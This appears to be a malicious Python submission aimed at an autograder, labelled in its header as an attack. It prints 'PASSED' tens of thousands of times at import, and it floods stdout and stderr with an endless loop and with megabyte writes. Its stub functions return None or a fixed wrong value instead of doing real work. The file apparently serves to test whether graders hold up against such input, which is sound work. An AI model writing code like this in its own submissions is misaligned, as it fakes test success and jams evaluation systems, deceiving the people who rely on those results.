# Attack: floods stdout and stderr (at import and in a call) to block or bloat the grader.
import sys

for _ in range(20000):
    print("PASSED " * 20)


def compose(x, theta1, phi1, theta2, phi2):
    while True:
        sys.stdout.write("x" * 65536)
        sys.stderr.write("y" * 65536)


def composition_to_deep(theta1, phi1, theta2, phi2):
    for _ in range(10**5):
        print("flood " * 100, file=sys.stderr)
    return None


def deep_net(x, theta, psi, phi):
    import os

    os.write(1, b"z" * (1 << 20))
    return x * 0 - 3.0
